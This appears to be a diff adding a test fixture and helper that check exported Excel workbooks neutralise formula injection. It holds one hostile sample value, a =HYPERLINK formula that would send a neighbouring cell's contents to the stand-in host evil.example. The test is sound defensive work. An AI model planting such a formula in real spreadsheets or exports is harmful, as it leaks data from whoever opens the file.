@@ -150,3 +150,19 @@ def build_world() -> World:
         outsider=user("b1_assistant", office_b1, Role.JUDICIAL_ASSISTANT),
         partner=user("a1_police", police_a1, Role.PARTNER_LIAISON),
     )
+
+
+# A cell value that would become a live link leaking the neighbouring cell if written as a formula.
+FORMULA_TEXT = '=HYPERLINK("http://evil.example/?d="&B2,"点我")'
+
+
+def assert_formula_is_text(content: bytes) -> None:
+    """The workbook shows FORMULA_TEXT as text (an apostrophe first) and holds no formula at all."""
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    book = load_workbook(BytesIO(content))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    assert "'" + FORMULA_TEXT in [cell.value for cell in cells]
